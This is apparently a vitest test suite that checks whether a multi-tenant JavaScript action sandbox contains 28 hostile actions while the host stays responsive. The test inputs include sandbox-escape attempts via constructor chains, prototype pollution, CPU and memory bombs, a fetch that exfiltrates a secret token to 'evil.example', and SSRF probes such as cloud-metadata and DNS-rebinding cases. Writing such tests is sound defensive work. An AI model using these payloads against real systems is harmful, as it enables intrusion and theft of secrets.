import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VETTED_MODULE_SOURCES, vettedModuleHelpers } from '../../../src/actions/modules/index.js';
import { createActionSandbox, DEFAULT_SANDBOX_LIMITS } from '../../../src/actions/sandbox/index.js';
import type { ExecutionRequest, ExecutionResult, SandboxLimits } from '../../../src/actions/types.js';

/**
 * The escape and abuse battery (issue 11): each hostile action is contained — the specific limit or refusal, no
 * host object reachable, nothing left behind for the next run — while the host keeps answering. During every case a
 * latency probe (an HTTP server in this process, hit every 20 ms) must keep its p99 under PROBE_P99_MS, and a second
 * tenant's trivial action must complete; afterwards the same sandbox runs a normal action for the same version.
 * The bounds are generous: the machine has 2 cores and neighbours.
 */
const PROBE_P99_MS = 250;
const LIMITS: SandboxLimits = { ...DEFAULT_SANDBOX_LIMITS, cpuMs: 300, wallMs: 1_500, fetchTimeoutMs: 500, logBytes: 4096 };

const sandbox = createActionSandbox({ vettedModules: VETTED_MODULE_SOURCES, hostHelpers: vettedModuleHelpers() });
let probeServer: Server;
let probeUrl: string;
let hangServer: Server;
let hangUrl: string;
beforeAll(async () => {
  probeServer = createServer((_, res) => res.end('ok'));
  hangServer = createServer(() => undefined); // accepts, never answers
  await Promise.all([probeServer, hangServer].map((s) => new Promise<void>((r) => s.listen(0, '127.0.0.1', r))));
  probeUrl = `http://127.0.0.1:${(probeServer.address() as AddressInfo).port}/`;
  hangUrl = `http://127.0.0.1:${(hangServer.address() as AddressInfo).port}/`;
});
afterAll(async () => {
  await sandbox.close();
  hangServer.closeAllConnections();
  await Promise.all([probeServer, hangServer].map((s) => new Promise((r) => s.close(r))));
});

let versions = 0;
function request(code: string, overrides: Partial<ExecutionRequest> = {}): ExecutionRequest {
  return {
    tenantId: 'tenant-hostile',
    versionKey: `hostile:${++versions}`,
    code,
    trigger: 'send-phone-message',
    event: { message_options: { recipient: '+14155552671', code: '482913', message_type: 'sms', action: 'enrollment', text: 'Your code is 482913' }, secrets: { TOKEN: 'super-secret-token' } },
    cache: {},
    network: { allowPrivateNetwork: false, allowedHosts: null },
    vendorBaseUrls: {},
    redact: ['482913', 'super-secret-token'],
    limits: LIMITS,
    ...overrides,
  };
}

const handler = (body: string) => `exports.onExecuteSendPhoneMessage = async (event, api) => {\n${body}\n};`;

/** Runs `req` while probing the host; returns the result, the probe's p99 and a second tenant's run. */
async function contained(req: ExecutionRequest): Promise<{ result: ExecutionResult; p99: number; other: ExecutionResult }> {
  const samples: number[] = [];
  let running = true;
  const probing = (async () => {
    while (running) {
      const began = performance.now();
      await fetch(probeUrl).then((r) => r.text());
      samples.push(performance.now() - began);
      await new Promise((r) => setTimeout(r, 20));
    }
  })();
  const hostile = sandbox.execute(req);
  await new Promise((r) => setTimeout(r, 50));
  const other = await sandbox.execute(request(handler("console.log('other tenant', event.message_options.action);"), { tenantId: 'tenant-calm', versionKey: 'calm:1' }));
  const result = await hostile;
  running = false;
  await probing;
  const sorted = samples.sort((a, b) => a - b);
  return { result, p99: sorted[Math.min(sorted.length - 1, Math.ceil(sorted.length * 0.99) - 1)] ?? 0, other };
}

async function expectContained(req: ExecutionRequest, check: (result: ExecutionResult) => void) {
  const { result, p99, other } = await contained(req);
  check(result);
  expect(p99, `probe p99 ${p99.toFixed(1)} ms`).toBeLessThan(PROBE_P99_MS);
  expect(other.ok, JSON.stringify(other.error)).toBe(true);
  expect(other.logs).toEqual(['log: other tenant enrollment']);
  // The same version still runs a normal execution (a killed isolate is rebuilt).
  const again = await sandbox.execute({ ...req, code: req.code, event: { ...req.event } });
  expect(again.startedAt).toBeInstanceOf(Date);
  const normal = await sandbox.execute(request(handler("console.log('fine');")));
  expect(normal.ok).toBe(true);
  expect(normal.logs).toEqual(['log: fine']);
  // Nothing leaked into the host.
  expect((globalThis as Record<string, unknown>).pwned).toBeUndefined();
  expect(Object.prototype).not.toHaveProperty('polluted');
}

const failedWith = (kind: string) => (r: ExecutionResult) => {
  expect(r.ok).toBe(false);
  expect(r.error?.kind, JSON.stringify(r.error)).toBe(kind);
};

describe('the sandbox contains hostile actions while the host keeps answering', () => {
  it('1. constructor chain from the event object finds no host process', () =>
    expectContained(request(handler("const p = event.constructor.constructor('return typeof process')(); console.log('process', p); globalThis.pwned = 1;")), (r) => {
      expect(r.ok).toBe(true);
      expect(r.logs).toEqual(['log: process undefined']);
    }));

  it('2. constructor chain from the api functions and the global this', () =>
    expectContained(request(handler("const f = api.cache.get.constructor('return this')(); console.log(typeof f.process, typeof f.require, typeof this?.constructor);")), (r) => {
      expect(r.ok).toBe(true);
      expect(r.logs[0]).toMatch(/^log: undefined undefined/);
    }));

  it('3. constructor chain from a host-thrown error (a refused fetch)', () =>
    expectContained(request(handler("try { await fetch('http://127.0.0.1/'); } catch (e) { console.log(e.constructor.constructor('return typeof process')()); }")), (r) => {
      expect(r.logs).toEqual(['log: undefined']);
    }));

  it('4. constructor chain from a fetch Response', async () => {
    const req = request(handler(`const res = await fetch(${JSON.stringify('PROBE')}); console.log(typeof res.text.constructor('return process')());`.replace('PROBE', '') ), { network: { allowPrivateNetwork: true, allowedHosts: null } });
    req.code = handler(`const res = await fetch('${'URL'}'); console.log(res.status, res.text.constructor('return typeof process')());`);
    await expectContained({ ...req, code: req.code.replace('URL', probeUrlValue()) }, (r) => {
      expect(r.logs).toEqual(['log: 200 undefined']);
    });
  });

  it('5. prototype pollution of the event and intrinsics stays in its run', async () => {
    await expectContained(request(handler("Object.prototype.polluted = true; Array.prototype.push = () => { throw new Error('x'); }; JSON.stringify = () => 'broken'; event.__proto__.evil = 1;")), (r) => expect(r.ok).toBe(true));
    const next = await sandbox.execute(request(handler("console.log('clean', ({}).polluted === undefined, [1].push(2));")));
    expect(next.logs).toEqual(['log: clean true 2']);
  });

  it('6. while(true) before any await: CPU limit', () => expectContained(request(handler('while (true) {}')), failedWith('cpu_time_exceeded')));

  it('7. while(true) after an awaited timer: the watchdog still stops it', () =>
    expectContained(request(handler('await new Promise((r) => setTimeout(r, 5)); while (true) {}')), failedWith('cpu_time_exceeded')));

  it('8. while(true) after an awaited fetch', () =>
    expectContained(request(handler(`try { await fetch('http://10.0.0.1/'); } catch {} while (true) {}`)), failedWith('cpu_time_exceeded')));

  it('9. waiting forever (a promise that never settles): wall-clock limit', () =>
    expectContained(request(handler('await new Promise(() => {});')), (r) => {
      failedWith('wall_time_exceeded')(r);
      expect(r.durationMs).toBeLessThan(LIMITS.wallMs + 1000);
    }));

  it('10. memory bomb: array growth', () => expectContained(request(handler('const a = []; while (true) a.push(new Array(1e6).fill(1.5));')), failedWith('memory_exceeded')));

  it('11. memory bomb: string doubling', () => expectContained(request(handler("let s = 'x'; const keep = []; while (true) { s = s + s; keep.push(s); }")), (r) => expect(r.ok).toBe(false)));

  it('12. deep recursion is a RangeError inside the isolate', () =>
    expectContained(request(handler('const f = (n) => f(n + 1) + 1; f(0);')), (r) => {
      failedWith('exception')(r);
      expect(r.error!.message).toMatch(/Maximum call stack/);
    }));

  it('13. huge console.log output is capped and marked truncated', () =>
    expectContained(request(handler("for (let i = 0; i < 10000; i++) console.log('line', i, 'x'.repeat(100));")), (r) => {
      expect(r.ok).toBe(true);
      expect(r.logsTruncated).toBe(true);
      expect(Buffer.byteLength(r.logs.join(''))).toBeLessThanOrEqual(LIMITS.logBytes);
    }));

  it('14. a huge return value is ignored, never copied to the host', () =>
    expectContained(request(handler("return 'x'.repeat(20 * 1024 * 1024);")), (r) => expect(r.ok === true || r.error?.kind === 'memory_exceeded').toBe(true)));

  it('15. throwing non-Errors: a string, an object with a hostile toString, a Symbol, null', async () => {
    for (const thrown of ["'plain string'", "{ toString() { throw new Error('nope'); }, get message() { while (true) {} } }", "Symbol('s')", 'null']) {
      await expectContained(request(handler(`throw ${thrown};`)), (r) => {
        // the hostile getter loops when read: the CPU limit ends that one
        expect(r.ok).toBe(false);
        expect(['exception', 'cpu_time_exceeded']).toContain(r.error!.kind);
        expect(typeof r.error!.message).toBe('string');
      });
    }
  });

  it('16. Atomics.wait and SharedArrayBuffer are not there', () =>
    expectContained(request(handler("console.log(typeof SharedArrayBuffer, typeof Atomics.wait); Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);")), (r) => {
      failedWith('exception')(r);
      expect(r.logs).toEqual(['log: undefined undefined']);
    }));

  it('17. WebAssembly (memory outside the heap limit, unbounded loops) is not there', () =>
    expectContained(request(handler("console.log(typeof WebAssembly); new WebAssembly.Memory({ initial: 1, maximum: 65536 });")), (r) => {
      failedWith('exception')(r);
      expect(r.logs).toEqual(['log: undefined']);
    }));

  it('18. fetch to a host outside the tenant allow-list is refused', () =>
    expectContained(request(handler("await fetch('https://evil.example/steal?token=' + event.secrets.TOKEN);"), { network: { allowPrivateNetwork: false, allowedHosts: ['api.twilio.com'] } }), (r) => {
      failedWith('exception')(r);
      expect(r.error!.message).toMatch(/not in this tenant's allowed hosts/);
      expect(r.fetches).toEqual([expect.objectContaining({ url: 'https://evil.example/steal', error: 'host_not_allowed' })]);
      expect(JSON.stringify(r)).not.toContain('super-secret-token');
    }));

  it('19. fetch to loopback, private, link-local and IPv6 loopback literals is refused', async () => {
    for (const target of ['http://127.0.0.1:1/', 'http://10.1.2.3/', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://192.168.0.1/', 'http://100.64.0.1/', 'http://0.0.0.0/']) {
      await expectContained(request(handler(`await fetch('${target}');`)), (r) => {
        failedWith('exception')(r);
        expect(r.error!.message).toMatch(/fetch refused/);
        expect(r.fetches[0]).toMatchObject({ error: 'forbidden_address' });
      });
    }
  });

  it('20. fetch to a name that resolves to loopback (localhost, and an injected DNS answer) is refused after resolution', async () => {
    await expectContained(request(handler("await fetch('http://localhost:1/');")), (r) => {
      expect(r.error!.message).toMatch(/localhost resolves to 127\.0\.0\.1 is a loopback address|::1/);
    });
    const rebinding = createActionSandbox({ vettedModules: {}, lookup: (_name, cb) => cb(null, [{ address: '93.184.216.34', family: 4 }, { address: '127.0.0.1', family: 4 }]) });
    try {
      const r = await rebinding.execute(request(handler("await fetch('http://sms-gateway.example/');")));
      expect(r.error!.message).toMatch(/sms-gateway\.example resolves to 127\.0\.0\.1 is a loopback address/);
    } finally {
      await rebinding.close();
    }
  });

  it('21. a fetch that never answers times out at the fetch timeout, not the wall clock', () =>
    expectContained(request(handler(`const began = Date.now(); try { await fetch('${'HANG'}'); } catch (e) { console.log(e.message, Date.now() - began < 1400); }`).replace('HANG', hangUrlValue()), { network: { allowPrivateNetwork: true, allowedHosts: null } }), (r) => {
      expect(r.ok).toBe(true);
      expect(r.logs[0]).toMatch(/no answer within 500 ms true$/);
      expect(r.fetches[0]).toMatchObject({ error: 'timeout' });
    }));

  it('22. too many fetches are refused', () =>
    expectContained(request(handler(`for (let i = 0; i < 20; i++) { try { await fetch('http://127.0.0.1:1/'); } catch (e) { if (/at most/.test(e.message)) { console.log('refused at', i); break; } } }`)), (r) => {
      expect(r.logs).toEqual([`log: refused at ${LIMITS.fetchMaxRequests}`]);
    }));

  it('23. require of node modules, and process, are not there', () =>
    expectContained(request(handler("console.log(typeof process, typeof require); for (const m of ['fs', 'child_process', 'net']) { try { require(m); } catch (e) { console.log(e.message); } }")), (r) => {
      expect(r.logs).toEqual(["log: undefined function", "log: Cannot find module 'fs'", "log: Cannot find module 'child_process'", "log: Cannot find module 'net'"]);
    }));

  it('24. a timer beyond the wall limit does not keep the execution alive', () =>
    expectContained(request(handler('await new Promise((r) => setTimeout(r, 60_000));')), failedWith('wall_time_exceeded')));

  it('25. the global object shows nothing of the host', () =>
    expectContained(request(handler("console.log(Object.getOwnPropertyNames(globalThis).filter((n) => /^_gl|^__guardline|process|require|global$/.test(n)).join(',') || 'none');")), (r) => {
      expect(r.logs).toEqual(['log: none']);
    }));

  it('26. an unhandled rejection inside the isolate fails that execution only (on Node it would end the process)', () =>
    expectContained(request(handler("Promise.reject(new Error('floating')); await new Promise((r) => setTimeout(r, 5));")), (r) => {
      failedWith('exception')(r);
      expect(r.error!.message).toContain('floating');
    }));

  it('27. a syntax error is invalid_code', () => expectContained(request('exports.onExecuteSendPhoneMessage = async (event, api) => {'), failedWith('invalid_code')));

  it('28. the code and secrets are masked in logs and error messages', () =>
    expectContained(request(handler("console.log(event.message_options.code, event.secrets.TOKEN, event.message_options.recipient); try { await fetch('http://127.0.0.1/send/' + event.message_options.recipient + '/' + event.message_options.code); } catch {} throw new Error('failed for ' + event.message_options.code);")), (r) => {
      expect(JSON.stringify(r)).not.toMatch(/482913|super-secret-token|4155552671/);
      expect(r.fetches[0]!.url).toBe('http://127.0.0.1/send/+XXXXXXX2671/******');
      expect(r.logs).toEqual(['log: ****** ****** +XXXXXXX2671']);
    }));
});

describe('a warm execution does not recompile', () => {
  it('runs the same version twice with one compilation and a fresh context each time', async () => {
    const before = sandbox.stats().compilations;
    const code = handler("globalThis.count = (globalThis.count ?? 0) + 1; console.log('count', globalThis.count);");
    const first = await sandbox.execute(request(code, { versionKey: 'warm:1' }));
    const second = await sandbox.execute(request(code, { versionKey: 'warm:1' }));
    expect(first.logs).toEqual(['log: count 1']);
    expect(second.logs).toEqual(['log: count 1']);
    expect(sandbox.stats().compilations).toBe(before + 1);
  });
});

describe('a warm isolate over many runs', () => {
  it('is recycled before released contexts fill its heap: 600 runs of one version all succeed, recompiling rarely', async () => {
    const before = sandbox.stats().compilations;
    const code = "const twilio = require('twilio'); exports.onExecuteSendPhoneMessage = async (event, api) => { twilio('AC1', 'token'); api.cache.set('k', 'v'); };";
    for (let i = 0; i < 600; i++) {
      const result = await sandbox.execute(request(code, { versionKey: 'long-lived:1', limits: { ...LIMITS, memoryMb: 16 } }));
      expect(result.ok, `run ${i}: ${JSON.stringify(result.error)}`).toBe(true);
    }
    const compiled = sandbox.stats().compilations - before;
    expect(compiled).toBeGreaterThanOrEqual(1);
    expect(compiled).toBeLessThan(60);
  });
});

function probeUrlValue() {
  return probeUrl;
}
function hangUrlValue() {
  return hangUrl;
}
